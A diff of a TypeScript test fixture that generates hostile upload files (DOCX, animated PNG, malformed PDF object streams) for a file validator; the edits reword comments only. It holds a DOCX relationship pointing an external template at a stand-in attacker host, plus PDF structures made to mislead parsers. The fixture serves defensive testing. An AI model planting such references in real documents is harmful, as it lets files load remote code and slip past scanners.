@@ -6,7 +6,7 @@ import { makeDocx, makeZip } from './make-zip.ts';
 
 interface NastyFile {
   bytes: () => Buffer | Promise<Buffer>;
-  /** The error code `FILE_...` if the file must be rejected, otherwise its type and properties. */
+  /** The error code `FILE_...` of a rejected file, otherwise the file's type and properties. */
   expected: string | { type: string; pages?: number; pixels?: { width: number; height: number } };
 }
 
@@ -37,7 +37,7 @@ async function pngOfSize(width: number, height: number): Promise<Buffer> {
   bytes.writeUInt32BE(height, 20);
   return bytes;
 }
-/** Creates a PNG with the chunk that makes it animated. */
+/** Creates a PNG with an animation control chunk. */
 async function movingPng(): Promise<Buffer> {
   const bytes = await picture().png().toBuffer();
   const control = Buffer.alloc(20);
@@ -58,8 +58,7 @@ const relationship = (type: string, target: string) =>
 const MEANINGS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const FETCHED = `Type="${MEANINGS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"`;
 /**
- * Returns a function that creates a DOCX with a relationship that has these attributes, such as an
- * external template.
+ * Returns a function that creates a DOCX with the given relationship, such as an external template.
  */
 const related = (attributes: string) => () =>
   relatedBy(`<Relationships><Relationship Id="r" ${attributes}/></Relationships>`);
@@ -83,7 +82,8 @@ function inLines(content: Buffer): Buffer {
   return deflateSync(Buffer.from(lines.flat()));
 }
 /**
- * Compresses PDF stream content, with an uncompressed block that looks like the end of the object.
+ * Compresses PDF stream content and adds an uncompressed block that looks like the end of the
+ * object.
  */
 function withEarlyEnd(content: Buffer): Buffer {
   const plain = Buffer.concat([content.subarray(0, 8), Buffer.from('%endstream endobj\n')]);
@@ -258,13 +258,13 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
     bytes: () =>
       makePdf({
         objects: [
-          // An object stream as written by pdfTeX.
+          // An object stream in pdfTeX's format.
           stream('\n/Type /ObjStm\n/N 1\n/First 8\n/Filter /FlateDecode\n', deflateSync('20000 0 << /A 1 >>')),
-          // An object stream as written by Acrobat. It extends another object stream.
+          // An object stream in Acrobat's format. It extends another object stream.
           stream('/Extends 10000 0 R/Filter[/FlateDecode]/First 8/N 1/Type/ObjStm', deflateSync('20001 0 (/A)')),
-          // An uncompressed object stream, as written by PDF inspection tools.
+          // An uncompressed object stream, as PDF inspection tools write it.
           stream('/Type /ObjStm /N 1 /First 8 /DecodeParms null', Buffer.from('20002 0 [ /A ]')),
-          // Other objects that use the same keywords, such as bookmarks, resources and annotations.
+          // Objects that use the same keywords, such as bookmarks, resources and annotations.
           '<< /Type /Outlines /First 20000 0 R /Last 20000 0 R /Title (\\( a stream\n) % obj <<\n >>',
           stream('/Type /XObject /Resources << /Font << /F 20000 0 R /First 20000 0 R >> >>', Buffer.from('q Q')),
           stream('/N 3 /Alternate /DeviceRGB /Filter [/ASCII85Decode /FlateDecode]', Buffer.from('GhQ~>')),
